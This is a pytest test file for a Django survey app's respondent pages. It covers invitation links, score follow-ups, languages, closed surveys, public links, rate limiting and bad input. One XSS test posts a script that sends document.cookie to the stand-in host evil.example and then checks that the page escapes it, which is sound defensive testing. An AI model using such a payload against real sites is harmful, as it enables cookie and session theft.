"""The respondent's pages, driven with Django's test client: the invitation link (with a score clicked
in the e-mail), the follow-up, the public link, languages, and every kind of bad input."""

import datetime
from types import SimpleNamespace

import django_ratelimit.core
import pytest
from django.test import Client
from django.utils import timezone

from hymy.surveys import services
from hymy.surveys.models import Answer, Invitation, Response

from .conftest import make_customer

NPS_FI = "Kuinka todennäköisesti suosittelisit yritystä Kahvila Aurinko ystävällesi tai kollegallesi?"
NPS_SV = "Hur troligt är det att du skulle rekommendera Kahvila Aurinko till en vän eller kollega?"
NPS_EN = "How likely are you to recommend Kahvila Aurinko to a friend or colleague?"
WRONG_FI = "Mikä meni pieleen? Mitä meidän pitäisi tehdä paremmin?"
WRONG_EN = "What went wrong? What should we do better?"
WELL_FI = "Mikä teki kokemuksesta hyvän?"


@pytest.fixture
def invitation(nps_survey, consenting, record_encounter):
    """Liisa's invitation to the NPS survey, sent by e-mail after her visit to the counter."""
    record_encounter(consenting)
    invitation = Invitation.objects.get()
    assert invitation.status == "sent"
    return invitation


def invitation_for(customer, survey) -> Invitation:
    return services.invitation_schedule(survey=survey, customer=customer, delay_minutes=0)


def html(page) -> str:
    return page.content.decode()


def the_response() -> Response:
    (response,) = Response.objects.all()
    return response


@pytest.fixture
def frozen_rate_window(monkeypatch):
    """Keep django-ratelimit's clock still, so that an hour boundary cannot reset the count mid-test."""
    monkeypatch.setattr(django_ratelimit.core, "time", SimpleNamespace(time=lambda: 1_795_000_000.0))


# --- The invitation link --------------------------------------------------------------------------


def test_opening_the_link_shows_the_first_question_and_marks_it_opened(client, invitation):
    page = client.get(f"/r/{invitation.token}/")

    assert page.status_code == 200
    assert '<html lang="fi">' in html(page)
    assert NPS_FI in html(page)
    assert [button["value"] for button in page.context["options"]] == list(range(11))
    invitation.refresh_from_db()
    assert invitation.opened_at is not None
    assert invitation.answered_at is None
    assert Response.objects.count() == 0


def test_score_9_clicked_in_the_email_is_recorded_and_skips_the_followup(client, invitation, counter):
    page = client.get(f"/r/{invitation.token}/?score=9")

    response = the_response()
    assert page.status_code == 302
    assert page["Location"] == f"/a/{response.token}/q/2/"
    assert (response.invitation, response.customer, response.touchpoint) == (
        invitation, invitation.customer, counter
    )  # fmt: skip
    assert (response.source, response.channel, response.language) == ("invitation", "email", "fi")
    assert list(response.answers.values_list("question__position", "score", "followup_text")) == [(1, 9, "")]
    assert response.is_complete is True
    invitation.refresh_from_db()
    assert invitation.opened_at is not None
    assert invitation.answered_at is not None

    second = client.get(page["Location"])
    assert second.status_code == 200
    assert WELL_FI in html(second)
    last = client.post(page["Location"], {"text": "Ystävällinen myyjä"})
    assert last["Location"] == f"/a/{response.token}/done/"
    done = client.get(last["Location"])
    assert "Kiitos! Vastauksesi auttaa meitä palvelemaan sinua paremmin." in html(done)
    assert list(response.answers.order_by("question__position").values_list("score", "text")) == [
        (9, ""),
        (None, "Ystävällinen myyjä"),
    ]


def test_score_3_leads_to_what_went_wrong(client, invitation):
    page = client.get(f"/r/{invitation.token}/?score=3")

    response = the_response()
    assert page["Location"] == f"/a/{response.token}/q/1/why/"
    followup = client.get(page["Location"])
    assert followup.status_code == 200
    assert WRONG_FI in html(followup)

    saved = client.post(page["Location"], {"followup_text": "Kahvi oli kylmää"})

    assert saved["Location"] == f"/a/{response.token}/q/2/"
    answer = Answer.objects.get()
    assert (answer.score, answer.followup_text) == (3, "Kahvi oli kylmää")
    response.refresh_from_db()
    assert response.has_comment is True


def test_clicking_another_score_in_the_email_changes_the_one_response(client, invitation):
    client.get(f"/r/{invitation.token}/?score=9")
    again = Client().get(f"/r/{invitation.token}/?score=6")

    response = the_response()
    assert again["Location"] == f"/a/{response.token}/q/1/why/"
    assert list(Answer.objects.values_list("score", flat=True)) == [6]


def test_opening_the_link_again_continues_the_response(client, invitation):
    client.get(f"/r/{invitation.token}/?score=9")

    page = client.get(f"/r/{invitation.token}/")

    assert page["Location"] == f"/a/{the_response().token}/q/1/"


@pytest.mark.parametrize("score", ["99", "11", "-1", "kymmenen", "9.5"])
def test_score_out_of_range_is_400_and_saves_nothing(client, nps_survey, organization, owner, score):
    english = make_customer(organization, owner, "Emma English", email="emma@example.com", language="en")
    invitation = invitation_for(english, nps_survey)

    page = client.get(f"/r/{invitation.token}/", {"score": score})

    assert page.status_code == 400
    assert '<html lang="en">' in html(page)
    assert '<div class="error" role="alert">Choose one of the options.</div>' in html(page)
    assert NPS_EN in html(page)
    assert Response.objects.count() == 0
    assert Answer.objects.count() == 0
    invitation.refresh_from_db()
    assert invitation.answered_at is None


@pytest.mark.parametrize(
    ("language", "message"),
    [
        ("fi", "Valitse jokin vaihtoehdoista."),
        ("sv", "Välj ett av alternativen."),
        ("en", "Choose one of the options."),
    ],
)
def test_out_of_range_message_is_in_the_customers_language(
    client, nps_survey, organization, owner, language, message
):
    customer = make_customer(organization, owner, "Kim Kielinen", email="kim@example.fi", language=language)
    invitation = invitation_for(customer, nps_survey)

    page = client.get(f"/r/{invitation.token}/?score=99", HTTP_ACCEPT_LANGUAGE="de")

    assert page.status_code == 400
    assert f'<html lang="{language}">' in html(page)
    assert f'<div class="error" role="alert">{message}</div>' in html(page)
    assert Response.objects.count() == 0


@pytest.mark.parametrize(
    ("accept_language", "heading"),
    [("en-GB", "Survey not found"), ("sv-SE", "Enkäten hittades inte"), ("", "Kyselyä ei löytynyt")],
)
def test_unknown_invitation_is_a_404_page_in_the_browsers_language(
    client, invitation, accept_language, heading
):
    page = client.get("/r/this-token-does-not-exist/?score=9", HTTP_ACCEPT_LANGUAGE=accept_language)

    assert page.status_code == 404
    assert f"<h1>{heading}</h1>" in html(page)
    assert Response.objects.count() == 0
    invitation.refresh_from_db()
    assert invitation.opened_at is None


@pytest.mark.parametrize(
    "path",
    ["/p/no-such-link/", "/a/no-such-response/q/1/", "/a/no-such-response/q/1/why/", "/a/no-such/done/"],
)
def test_unknown_public_or_response_token_is_404(client, nps_survey, path):
    assert client.get(path).status_code == 404
    assert client.post(path, {"score": 5, "followup_text": "x"}).status_code == 404
    assert Response.objects.count() == 0


def test_after_the_edit_window_the_link_says_already_answered_and_changes_nothing(client, invitation):
    client.get(f"/r/{invitation.token}/?score=9")
    response = the_response()
    Response.objects.filter(pk=response.pk).update(started_at=timezone.now() - datetime.timedelta(minutes=61))

    pages = [
        client.get(f"/r/{invitation.token}/?score=2"),
        client.get(f"/r/{invitation.token}/"),
        client.post(f"/a/{response.token}/q/1/", {"score": 2}),
        client.post(f"/a/{response.token}/q/1/why/", {"followup_text": "Muutin mieleni"}),
        client.post(f"/a/{response.token}/q/2/", {"text": "Muutin mieleni"}),
    ]

    for page in pages:
        assert page.status_code == 409
        # In Liisa's language: "You have already answered".
        assert "<h1>Olet jo vastannut</h1>" in html(page)
    assert list(Answer.objects.values_list("score", "text", "followup_text")) == [(9, "", "")]


def test_within_the_edit_window_answers_can_be_changed(client, invitation):
    client.get(f"/r/{invitation.token}/?score=9")
    response = the_response()
    Response.objects.filter(pk=response.pk).update(started_at=timezone.now() - datetime.timedelta(minutes=59))

    page = client.post(f"/a/{response.token}/q/1/", {"score": 4})

    assert page["Location"] == f"/a/{response.token}/q/1/why/"
    assert list(Answer.objects.values_list("score", flat=True)) == [4]
    done = client.get(f"/a/{response.token}/done/")
    assert f'href="/a/{response.token}/q/1/"' in html(done)


def test_closed_survey_is_410_and_takes_no_answer(client, invitation, nps_survey):
    services.survey_status_set(survey=nps_survey, status="closed")

    by_link = client.get(f"/r/{invitation.token}/?score=9", HTTP_ACCEPT_LANGUAGE="en")
    public = client.post(f"/p/{nps_survey.public_token}/", {"score": 9}, HTTP_ACCEPT_LANGUAGE="en")

    # Liisa reads Finnish whatever her browser says; the anonymous respondent gets the browser's English.
    assert (by_link.status_code, public.status_code) == (410, 410)
    assert "<h1>Tämä kysely on suljettu</h1>" in html(by_link)
    assert "<h1>This survey is closed</h1>" in html(public)
    assert Response.objects.count() == 0


def test_required_question_without_an_answer_is_400(client, invitation):
    client.get(f"/r/{invitation.token}/?score=9")
    response = the_response()

    page = client.post(f"/a/{response.token}/q/1/", {})

    assert page.status_code == 400
    assert '<div class="error" role="alert">Valitse vastaus.</div>' in html(page)
    assert list(Answer.objects.values_list("score", flat=True)) == [9]


def test_unknown_question_position_is_404(client, invitation):
    client.get(f"/r/{invitation.token}/?score=9")

    assert client.get(f"/a/{the_response().token}/q/3/").status_code == 404


def test_text_over_5000_characters_is_400_and_nothing_is_saved(client, invitation):
    client.get(f"/r/{invitation.token}/?score=5")
    response = the_response()

    text = client.post(f"/a/{response.token}/q/2/", {"text": "x" * 5001})
    followup = client.post(f"/a/{response.token}/q/1/why/", {"followup_text": "y" * 5001})

    for page in (text, followup):
        assert page.status_code == 400
        # Django's own message, in the respondent's language (Liisa reads Finnish).
        assert "Tämän arvon tulee olla enintään 5000 merkkiä pitkä (tällä hetkellä 5001)." in html(page)
    assert list(Answer.objects.values_list("question__position", "score", "text", "followup_text")) == [
        (1, 5, "", "")
    ]
    response.refresh_from_db()
    assert response.has_comment is False


def test_script_in_a_comment_is_kept_as_text(client, invitation):
    client.get(f"/r/{invitation.token}/?score=1")
    response = the_response()
    script = "<script>document.location='https://evil.example/'+document.cookie</script>"

    client.post(f"/a/{response.token}/q/1/why/", {"followup_text": script})
    page = client.get(f"/a/{response.token}/q/1/why/")

    assert Answer.objects.get().followup_text == script
    assert "<script>document" not in html(page)
    assert (
        "&lt;script&gt;document.location=&#x27;https://evil.example/&#x27;+document.cookie&lt;/script&gt;"
        in html(page)
    )


def test_optional_question_can_be_skipped(client, invitation):
    client.get(f"/r/{invitation.token}/?score=10")
    response = the_response()

    page = client.get(f"/a/{response.token}/q/2/")

    assert f'<a class="skip" href="/a/{response.token}/done/">Ohita</a>' in html(page)


# --- Language -------------------------------------------------------------------------------------


def test_swedish_customer_sees_swedish_and_can_switch_to_english(client, nps_survey, organization, owner):
    swedish = make_customer(organization, owner, "Sven Svensson", email="sven@example.se", language="sv")
    invitation = invitation_for(swedish, nps_survey)

    swedish_page = client.get(f"/r/{invitation.token}/")
    english_page = client.get(f"/r/{invitation.token}/?lang=en")

    assert '<html lang="sv">' in html(swedish_page)
    assert NPS_SV in html(swedish_page)
    assert NPS_EN not in html(swedish_page)
    assert '<html lang="en">' in html(english_page)
    assert NPS_EN in html(english_page)

    answered = client.get(f"/r/{invitation.token}/?lang=en&score=2")

    response = the_response()
    assert response.language == "en"
    assert WRONG_EN in html(client.get(answered["Location"]))
    client.get(f"/a/{response.token}/q/1/?lang=sv")
    response.refresh_from_db()
    assert response.language == "sv"
    assert "Vad gick fel? Vad borde vi göra bättre?" in html(client.get(f"/a/{response.token}/q/1/why/"))


def test_language_switch_links_keep_the_respondent_on_the_page(client, invitation):
    page = client.get(f"/r/{invitation.token}/")

    assert '<a href="?lang=fi" lang="fi" aria-current="true">FI</a>' in html(page)
    assert '<a href="?lang=sv" lang="sv">SV</a>' in html(page)
    assert '<a href="?lang=en" lang="en">EN</a>' in html(page)


@pytest.mark.parametrize(
    ("accept_language", "language", "question"),
    [
        ("sv-FI,sv;q=0.9", "sv", NPS_SV),
        ("en-GB,en;q=0.8", "en", NPS_EN),
        ("de-DE", "fi", NPS_FI),
        ("", "fi", NPS_FI),
    ],
)
def test_anonymous_respondent_gets_the_browsers_language(
    client, nps_survey, accept_language, language, question
):
    page = client.get(f"/p/{nps_survey.public_token}/", HTTP_ACCEPT_LANGUAGE=accept_language)

    assert page.status_code == 200
    assert f'<html lang="{language}">' in html(page)
    assert question in html(page)


def test_customers_language_wins_over_the_browsers(client, invitation):
    page = client.get(f"/r/{invitation.token}/", HTTP_ACCEPT_LANGUAGE="en-GB")

    assert NPS_FI in html(page)


# --- The public link ------------------------------------------------------------------------------


def test_public_link_first_answer_makes_the_response_and_the_same_browser_returns_to_it(client, nps_survey):
    url = f"/p/{nps_survey.public_token}/"

    first = client.post(url, {"score": 8}, HTTP_USER_AGENT="Mozilla/5.0 (iPhone; CPU iPhone OS 17_0)")

    response = the_response()
    assert first.status_code == 302
    assert first["Location"] == f"/a/{response.token}/q/2/"
    cookie = first.cookies[f"hymy_answered_{nps_survey.pk}"]
    assert cookie.value == response.token
    assert cookie["httponly"] is True
    assert cookie["samesite"] == "Lax"
    assert (response.source, response.customer, response.device) == ("public_link", None, "mobile")
    assert response.respondent_key != ""

    back = client.get(url)
    again = client.post(url, {"score": 2})

    assert back["Location"] == f"/a/{response.token}/q/1/"
    assert again["Location"] == f"/a/{response.token}/q/1/"
    assert list(Answer.objects.values_list("score", flat=True)) == [8]

    other_browser = Client().post(url, {"score": 2})

    assert Response.objects.count() == 2
    second = Response.objects.exclude(pk=response.pk).get()
    assert other_browser["Location"] == f"/a/{second.token}/q/1/why/"
    assert sorted(Answer.objects.values_list("score", flat=True)) == [2, 8]


def test_public_link_with_a_touchpoint_of_the_survey_counts_for_it(client, nps_survey, delivery):
    services.survey_touchpoints_set(survey=nps_survey, touchpoints=[*nps_survey.touchpoints.all(), delivery])

    client.post(f"/p/{nps_survey.public_token}/?tp={delivery.pk}", {"score": 10})

    assert the_response().touchpoint == delivery


def test_public_link_bad_score_is_400_and_saves_nothing(client, nps_survey):
    page = client.post(f"/p/{nps_survey.public_token}/", {"score": 11}, HTTP_ACCEPT_LANGUAGE="en")

    assert page.status_code == 400
    assert "Choose one of the options." in html(page)
    assert Response.objects.count() == 0
    assert f"hymy_answered_{nps_survey.pk}" not in page.cookies


def test_public_link_start_is_rate_limited_to_20_an_hour_per_address(nps_survey, frozen_rate_window):
    url = f"/p/{nps_survey.public_token}/"
    for _browser in range(20):
        assert Client().post(url, {"score": 9}).status_code == 302

    blocked = Client().post(url, {"score": 9}, HTTP_ACCEPT_LANGUAGE="en")
    from_elsewhere = Client(REMOTE_ADDR="198.51.100.7").post(url, {"score": 9})

    assert blocked.status_code == 429
    assert blocked["Retry-After"] == "60"
    assert "Too many attempts" in html(blocked)
    assert from_elsewhere.status_code == 302
    assert Response.objects.count() == 21
    assert Client().get(url).status_code == 200


def test_the_why_page_can_switch_language_too(client, invitation):
    client.get(f"/r/{invitation.token}/?score=3")
    why = f"/a/{the_response().token}/q/1/why/"

    page = client.get(why, {"lang": "sv"})

    assert '<html lang="sv">' in html(page)
    assert "Vad gick fel? Vad borde vi göra bättre?" in html(page)
    assert the_response().language == "sv"
